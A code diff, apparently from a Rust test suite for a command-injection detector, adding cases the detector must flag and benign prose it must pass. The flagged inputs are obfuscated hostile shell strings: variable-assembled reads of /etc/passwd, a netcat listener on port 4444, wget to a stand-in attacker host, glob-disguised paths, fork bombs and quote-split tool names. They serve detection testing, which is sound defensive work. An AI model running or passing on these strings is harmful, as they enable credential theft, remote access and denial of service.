@@ -170,12 +170,68 @@ fn wrappers_splices_and_command_lines() {
 }
 
 #[test]
+fn shell_grammar_beyond_separators() {
+    assert_found_everywhere(
+        Category::Cmdi,
+        &[
+            // Variables assembled into a command line.
+            "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
+            "x=nc;$x -lvp 4444",
+            "t=usera[d]d;$t bob",
+            "|$z wget evil.example",
+            // Globs naming a sensitive file or a program.
+            "/etc/[!x]asswd",
+            "/usr/bin/[w]hoami",
+            "/usr/[a-c]in/bash",
+            // Process substitution, argv lists, fork bombs.
+            "<(cat notes)",
+            ">(tee out)",
+            ";c99 -wrapper sh,-c,id .",
+            "g(){ g | g & };g",
+            "g(){ g() & g(); }; g",
+            // cmd.exe conditions.
+            "if /i \"%1\"==\"x\" goto end",
+            "IF \"%~1\"==\"\" exit",
+            "if [%%A]==[x] echo",
+            "IF ERRORLEVEL 1 IF NOT ERRORLEVEL 3 exit",
+            // Tool jargon alone after a separator, quote-split names.
+            "x; ssh-copy-id",
+            "done; visudo",
+            "'c'url localhost",
+            "\"n\"map example",
+            "aa-enforce nginx-profile",
+        ],
+    );
+}
+
+#[test]
+fn prose_near_shell_grammar_is_clean() {
+    assert_clean(
+        Category::Cmdi,
+        &[
+            "x = 5; y = x + 1",
+            "price=10&qty=$total",
+            "see /docs/[id]/page.tsx",
+            "emoticons like <(^_^)> and >(which is odd)",
+            "if a==b then swap",
+            "That's two \"O\"s in goose",
+            "O'keefe's",
+            "Time; management matters",
+            "f(x) { return x | y; }",
+            "render() { a | b; }",
+            "50% off if score==100% today",
+        ],
+    );
+}
+
+#[test]
 fn mail_protocol_commands_after_crlf() {
     assert_found_everywhere(
         Category::Cmdi,
         &[
             "x\r\nQUIT",
             "x\r\nRETR 2",
+            "x\r\nTOP 1 2",
             "x\r\nA7 store 1:3 +FLAGS (\\Deleted)\r\n",
         ],
     );
